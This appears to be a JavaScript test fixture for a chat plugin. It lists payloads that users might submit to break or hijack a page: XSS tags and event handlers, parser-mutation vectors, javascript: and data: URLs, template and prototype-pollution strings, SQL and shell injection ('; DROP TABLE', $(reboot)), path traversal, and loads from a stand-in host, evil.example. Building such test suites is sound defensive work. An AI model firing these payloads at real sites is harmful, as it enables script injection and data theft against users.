// What people might write, be called, or call a course, in the hope that something of it runs or breaks the page. A
// collection of this project's own, by the place that each of them aims at. `pwned()` is what they try to reach.
const JS = "pwned()";

const tags = ["script", "SCRIPT", "sCrIpT", "script x", "script/x", "script\n"].flatMap((tag) => [
  `<${tag}>${JS}</${tag.split(/[ /\n]/)[0]}>`,
  `"><${tag}>${JS}</script>`,
]);

const attributes = [
  "img src=x onerror", "img/src=x/onerror", "img src onerror", "image src=x onerror", "img\tsrc=x\tonerror", "img\nsrc=x\nonerror",
  "svg onload", "svg/onload", "svg\fonload", "body onload", "body onpageshow", "body onhashchange", "video src=x onerror",
  "audio src=x onerror", "video><source onerror", "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus",
  "keygen autofocus onfocus", "details open ontoggle", "marquee onstart", "iframe onload", "object data=x onerror", "embed src=x onload",
  "link rel=stylesheet href=x onerror", "style onload", "p onmouseover", "a onclick", "div onpointerenter", "div style=animation:x onanimationstart",
  "div tabindex=1 onfocusin", "button popovertarget=x onclick", "dialog open onclose", "frameset onload", "table background=x onerror",
  "x contenteditable onblur", "gchat-roster onclick", "slot onslotchange", "portal onload", "isindex type=image src=1 onerror",
].flatMap((start) => [`<${start}=${JS}>`, `"><${start}="${JS}" x="`]).filter((_, n) => n % 2 === 0 || n % 6 === 1);

const broken = [
  `'-${JS}-'`, `"-${JS}-"`, `\\";${JS};//`, `';${JS}//`, `" onmouseover="${JS}`, `' onfocus='${JS}' autofocus='`, `\` onerror=${JS} \``,
  `</script><script>${JS}</script>`, `</textarea><script>${JS}</script>`, `</title><script>${JS}</script>`, `</style><script>${JS}</script>`,
  `</noscript><img src=x onerror=${JS}>`, `--><img src=x onerror=${JS}>`, `<!--><img src=x onerror=${JS}>-->`, `<!--[if gte IE 4]><script>${JS}</script><![endif]-->`,
  `<![CDATA[><img src=x onerror=${JS}>]]>`, `<?xml-stylesheet href="javascript:${JS}"?>`, `<%= ${JS} %>`, `<!DOCTYPE x [<!ENTITY y "${JS}">]>&y;`,
  `<<script>${JS}//<</script>`, `<scr<script>ipt>${JS}</scr</script>ipt>`, `<script\u0000>${JS}</script>`.replace("\u0000", "\u0001"), `<\u200bscript>${JS}</script>`,
  `\uff1cscript\uff1e${JS}\uff1c/script\uff1e`, `\u2039script\u203a${JS}`, `%3Cscript%3E${JS}%3C/script%3E`, `&lt;script&gt;${JS}&lt;/script&gt;`, `&#60;script&#62;${JS}`,
  `&#x3c;img src=x onerror=${JS}&#x3e;`, `\\u003cscript\\u003e${JS}`, `\\x3cimg src=x onerror=${JS}\\x3e`, `+ADw-script+AD4-${JS}+ADw-/script+AD4-`, `"><base href="//evil.example/">`,
];

const foreign = [
  `<svg><script>${JS}</script></svg>`, `<svg><script xlink:href="data:,${JS}"/></svg>`, `<svg><animate onbegin=${JS} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${JS}" begin=0s></svg>`, `<svg><a xlink:href="javascript:${JS}"><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload='${JS}'/>#x"/></svg>`, `<svg><foreignObject><iframe src="javascript:${JS}"/></foreignObject></svg>`,
  `<svg><desc><img src=x onerror=${JS}></desc></svg>`, `<svg><style><img src=x onerror=${JS}></style></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=${JS}>`,
  `<math href="javascript:${JS}">x</math>`, `<math><maction actiontype="statusline#" xlink:href="javascript:${JS}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${JS}></annotation-xml></math>`, `<template><img src=x onerror=${JS}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${JS}></template>`, `<noscript><p title="</noscript><img src=x onerror=${JS}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${JS}>`, `<svg></p><style><a id="</style><img src=x onerror=${JS}>">`,
  `<select><template><option><script>${JS}</script>`, `<xmp><p title="</xmp><img src=x onerror=${JS}>">`, `<plaintext><img src=x onerror=${JS}>`, `<listing>&lt;img onerror=${JS} src=x&gt;</listing>`,
];

const carriers = [
  `<iframe srcdoc="<script>parent.${JS}</script>"></iframe>`, `<iframe src="javascript:parent.${JS}"></iframe>`, `<object data="data:text/html,<script>parent.${JS}</script>"></object>`,
  `<embed src="//evil.example/x.swf">`, `<link rel=import href="//evil.example/">`, `<link rel=preload as=image href="//evil.example/x">`, `<meta http-equiv=refresh content="0;url=javascript:${JS}">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`, `<base href="https://evil.example/">`, `<form action="javascript:${JS}"><button>x</button></form>`,
  `<button formaction="javascript:${JS}">x</button>`, `<input type=image src="//evil.example/x">`, `<isindex action="javascript:${JS}">`, `<img srcset="//evil.example/x 1x">`, `<picture><source srcset="//evil.example/x"><img></picture>`,
  `<video poster="//evil.example/x">`, `<script type=module>import "//evil.example/x.js"</script>`, `<script type=importmap>{"imports":{"x":"//evil.example/"}}</script>`, `<portal src="//evil.example/">`, `<fencedframe>`,
];

/** Also tried as pictures and profile addresses. */
export const URLS = [
  `javascript:${JS}`, `JAVASCRIPT:${JS}`, `jAvAsCrIpT:${JS}`, ` javascript:${JS}`, `\tjavascript:${JS}`, `java\tscript:${JS}`, `java\nscript:${JS}`, `java\rscript:${JS}`, `javascript\t:${JS}`,
  `\u0001javascript:${JS}`, `\u00a0javascript:${JS}`, `javascript&colon;${JS}`, `javascript&#58;${JS}`, `&#106;avascript:${JS}`, `javascript%3A${JS}`, `javascript://x%0a${JS}`, `javascript:/*--></title>*/${JS}`,
  `data:text/html,<script>${JS}</script>`, `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`, `data:image/svg+xml,<svg onload='${JS}'/>`, `DATA:text/html,<script>${JS}</script>`, `vbscript:msgbox(1)`, `livescript:${JS}`, `view-source:javascript:${JS}`,
  `blob:https://evil.example/x`, `filesystem:https://evil.example/x`, `file:///etc/passwd`, `about:blank`, `//evil.example/x`, `\\\\evil.example\\x`, `/\\evil.example/x`, `https:evil.example/x`, `http://evil.example/"onerror="${JS}`,
  `https://evil.example/x.png`, `https://user:pw@evil.example/`, `https://evil.example/?${"a".repeat(1_500)}`, `https://evil.example/#'><img src=x onerror=${JS}>`, `mailto:x@evil.example?body=<script>${JS}</script>`, `intent://x#Intent;end`, `moodle-mobile://x`,
];

const linked = [
  `https://evil.example/"onmouseover="${JS}`, `https://evil.example/'onclick='${JS}`, `https://evil.example/<script>${JS}</script>`, `http://[::1]:80/${JS}`, `https://\u0435vil.example/`, `https://evil.example/\u202Egnp.exe`,
  `www.evil.example/">${JS}`, `mailto:"><img src=x onerror=${JS}>@evil.example`, `ftp://evil.example/x`, `https://evil.example/${"x".repeat(2_000)}`, `https://${"a.".repeat(100)}example/`, `x@evil.example?subject=<b>`, `[click](javascript:${JS})`, `![x](x"onerror="${JS})`,
];

const templates = [
  `{{constructor.constructor('${JS}')()}}`, `\${${JS}}`, `#{${JS}}`, `<%- ${JS} %>`, `{%${JS}%}`, `[[${JS}]]`, `@{${JS}}`, `{{{${JS}}}}`, `<!--lit-part--><img src=x onerror=${JS}><!--/lit-part-->`, `<!--?lit$1$-->`, `lit$123$`, `{{lit-1}}`, `<?lit$0?>`, `$lit$`, `._$litPart$`,
  `{{#str}}login{{/str}}`, `{{#js}}${JS}{{/js}}`, `{{> block_gchat/x }}`, `<span lang="en" class="multilang">a</span><span lang="pt" class="multilang"><img src=x onerror=${JS}></span>`, `{mlang en}a{mlang}{mlang pt}<img src=x onerror=${JS}>{mlang}`,
  `$$\\href{javascript:${JS}}{x}$$`, `\\(\\unicode{<img src=x onerror=${JS}>}\\)`, `<tex>\\input{/etc/passwd}</tex>`, `{GENERICO:type="x"}`, `@@PLUGINFILE@@/x`, `@@USER@@`, `[filter]<script>${JS}</script>[/filter]`,
];

const objects = [
  "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__proto__[pwned]=1", `{"__proto__":{"pwned":true}}`, `{"type":"error","code":"x"}`, "undefined", "null", "NaN", "[object Object]", "0", "-1", "true", "1e309", "\\", "\\\\\"", "' OR 1=1 --", "'; DROP TABLE messages; --", "%s%n%x", "$(reboot)", "`reboot`", "../../../etc/passwd", "A\\0B",
];

const styles = [
  `<style>*{display:none!important}</style>`, `</style><style>gchat-window{position:fixed;inset:0}</style>`, `<div style="position:fixed;inset:0;z-index:99999">`, `<p style="background:url(//evil.example/x)">`, `<style>@import "//evil.example/x.css"</style>`, `expression(${JS})`, `;}*{color:red}`, `url(javascript:${JS})`, `<link rel=stylesheet href="//evil.example/x.css">`, `--x:url(//evil.example/)`, `<svg><style>*{fill:url(//evil.example/x)}</style></svg>`, `\\3c script\\3e`,
];

const unicode = [
  "\u202Ertl override \u202C back", "\u2066isolate \u2067 and \u2068 again \u2069", "\u202D\u202E\u202D\u202E nested", `a\u202E${"x".repeat(60)}`, "\u200fright\u200eleft\u061cmark", "e" + "\u0301".repeat(300), "Z" + "\u0336\u0489\u0334\u035b\u0363".repeat(60) + "algo", "\u0E01" + "\u0E49".repeat(80), "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}".repeat(20),
  "\u{1F44D}\u{1F3FF}\u{1F44D}\u{1F3FB}", "\u{1F1F5}\u{1F1F9}\u{1F1E7}\u{1F1F7}\u{1F1F5}", "1\uFE0F\u20E3#\uFE0F\u20E3", "\u{E0041}\u{E0042}tags", "\uFFFD\uFFFE\uFFFF", "a\uD800b", "\uDC00 alone", "\u0001\u0002\u0007\u0008\u001b[31mred\u001b[0m", "x\u000b\u000cy", "x\u0085y\u2028y\u2029z", "\u200b\u200c\u200d\u2060 nothing", "\u{1D4B6}\u{1D4C1}\u{1D4BA}\u{1D4C7}\u{1D4C9}(1)", "\uFF1Cimg src=x onerror=\uFF1E", "\u3164", "\uFDFD".repeat(60), "\u{12219}\u{1242B}".repeat(40), "\u0639\u0631\u0628\u064A <b> \u05E2\u05D1\u05E8\u05D9\u05EA", "\u115F".repeat(50),
];

const long = [
  "x".repeat(4_096), "W".repeat(4_000), "\u{1F600}".repeat(1_000), "\uD55C".repeat(4_096), "-".repeat(3_000), "/".repeat(2_000), "a\u00a0".repeat(1_500), `https://evil.example/${"y".repeat(4_000)}`, "<b>".repeat(1_000), "(".repeat(2_000), "\n".repeat(300) + "end", "a\n".repeat(500), "\t".repeat(200) + "x", "_".repeat(4_096), "&".repeat(2_000), "\u0e01".repeat(4_000),
];

/** Those that aim at the page's shape. */
export const SHAPES = [...new Set([styles, unicode, long].flat())].map((text) => text.toWellFormed());

/** All of them, each once. */
export const PAYLOADS = [
  ...new Set([tags, attributes, broken, foreign, carriers, URLS, linked, templates, objects, styles, unicode, long].flat()),
].map((text) => text.toWellFormed());
